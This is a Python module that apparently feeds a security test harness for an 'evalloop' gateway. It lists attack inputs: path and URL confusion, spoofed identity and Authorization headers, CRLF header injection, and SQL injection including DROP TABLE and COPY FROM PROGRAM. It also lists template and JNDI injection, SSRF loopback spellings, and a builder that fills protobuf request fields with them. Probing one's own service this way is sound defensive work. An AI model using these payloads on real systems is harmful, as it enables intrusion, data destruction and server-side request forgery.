"""What attackers send: lists, and bodies made from the protos."""

import re
import urllib.parse

import stack as stacks

# Ways to write a path, and beside it, so that whoever checks and whoever
# answers may read two things. {} is the path.
TARGETS = (
    "/{}", "//{}", "{}/", "{};x=1", "{}?/healthz", "{}%20", "{}%00", "{}/.",
    "{}/..", "{}%2f", "{}#/healthz", "/.{}", "/%2e{}", "/x/..{}", "/%2f{}",
    "/healthz/..{}", "/healthz;{}", "/healthz%2f..{}", "/healthz%00{}",
    "/healthz?{}", "/healthz#{}", "/readyz/%2e%2e{}", "/HEALTHZ{}",
    "http://127.0.0.1{}", "http://evil.example{}", "https://a:b@evil{}",
    "http://healthz{}", "x://y{}", "http://evil.example/healthz?{}",
    "//healthz{}", "\\{}", "{}%0d%0aauthorization:%20Bearer%20x", "{}%c0%af",
    "{}?authorization=Bearer%20{{key}}", "*", "{}\thealthz")

# Fields that other gateways have believed.
HEADERS = (
    "Host: healthz", "Host: x/?", "Host: /healthz?", "Host: 127.0.0.1#",
    "Host: localhost/healthz", "Host:", "Host: a\r\nHost: healthz",
    "X-Forwarded-For: 127.0.0.1", "X-Real-IP: 127.0.0.1",
    "Forwarded: for=127.0.0.1;host=healthz;proto=https",
    "X-Forwarded-Host: healthz", "X-Forwarded-Proto: https",
    "X-Forwarded-Prefix: /healthz", "X-Forwarded-Uri: /healthz",
    "X-Original-URL: /healthz", "X-Rewrite-URL: /healthz",
    "X-Forwarded-User: services", "X-Remote-User: admin",
    "X-HTTP-Method-Override: GET", "X-Evalloop-Identity: services",
    "X-Evalloop-Role: admin", "Identity: services", "Via: 1.1 services",
    "Cookie: token={key}", "X-Api-Key: {key}", "Api-Key: {key}",
    "Proxy-Authorization: Bearer {key}", "Authorization: Basic {key}",
    "Authorization: {key}", "Authorization: Bearer", "Authorization : Bearer {key}",
    "Authorization-Bin: {key}", "Connection: authorization",
    "Authorization: Bearer x\r\nAuthorization: Bearer {key}",
    "Authorization: Bearer x\r\n Bearer {key}", "Authorization: Bearer x,{key}")

# {} is a mark that is looked for afterwards.
INJECTIONS = (
    "{}'", "{}''", "{}'--", "{}' OR '1'='1", "{}\" OR \"\"=\"",
    "{}'; DROP TABLE serving.models; --", "{}'; CREATE TABLE {}(); --",
    "{}'||pg_sleep(5)||'", "{}'; SELECT pg_sleep(5)--", "{}') OR pg_sleep(5)--",
    "{}') UNION SELECT usename FROM pg_user--", "{}\\'; --", "{}$$;--",
    "{}%27%20OR%201=1", "{}'/**/OR/**/1=1", "{}`", "{}\u2019 OR 1=1",
    "{}' COPY x FROM PROGRAM 'id'", "{}'::regclass", "{}$1", "{}:name",
    "{}%s%n", "{}' AND 1=CAST(version() AS int)--", "{};COMMIT;",
    "{}{{{{7*7}}}}", "{}${{jndi:ldap://x}}")

MESSAGE = re.compile(r"^message (\w+) \{$(.*?)^\}$", re.M | re.S)
FIELD = re.compile(r"^\s+(?:(repeated|optional) )?([\w.]+) (\w+) = \d+", re.M)
CALL = re.compile(r"^  rpc (\w+)\((?:stream )?(\w+)\)", re.M)


class Bodies:
    """Requests of the protos' methods with a text in each string."""

    def __init__(self):
        self.messages, self.requests = {}, {}
        for path in (stacks.ROOT / "protos/evalloop/v1").glob("*.proto"):
            text = path.read_text()
            self.requests.update(CALL.findall(text))
            for name, body in MESSAGE.findall(text):
                self.messages[name] = FIELD.findall(body)

    def of(self, method, text):
        return self._fill(self.requests[method], text, 4)

    def _fill(self, message, text, depth):
        body = {}
        for repeated, kind, name in self.messages[message]:
            if kind == "string":
                value = text
            elif kind in self.messages and depth > 0:
                value = self._fill(kind, text, depth - 1)
            else:
                continue
            body[name] = [value] if repeated == "repeated" else value
        return body

    def path(self, template, text):
        """A path of the protos with `text` for each variable."""
        return re.sub(r"{[^}]*}", urllib.parse.quote(text, safe=""), template)


def urls(port):
    """Spellings of a URL of 127.0.0.1 that filters have let through."""
    return [f"http://127.0.0.1:{port}/", f"https://127.0.0.1:{port}/v1",
            f"http://localhost:{port}/", f"http://[::ffff:7f00:1]:{port}/",
            f"http://2130706433:{port}/", f"http://0177.0.0.1:{port}/",
            f"http://0x7f.1:{port}/", f"http://a@127.0.0.1:{port}/",
            f"//127.0.0.1:{port}/", f"127.0.0.1:{port}",
            f"gopher://127.0.0.1:{port}/_x"]


# Members by which some gateway has let its clients choose whom it calls.
URL_MEMBERS = (
    "base_url", "api_base", "api_url", "endpoint", "url", "host", "proxy",
    "callback", "webhook", "redirect", "provider", "image_url", "file",
    "custom_host", "target", "upstream", "config")
URL_HEADERS = (
    "Host", "X-Forwarded-Host", "X-Base-Url", "X-Api-Base", "X-Portkey-Custom-Host",
    "X-Upstream", "X-Target-Url", "Referer", "Origin", "X-Original-URL",
    "X-Evalloop-Base-Url", "Proxy", "Forwarded", "X-Callback")
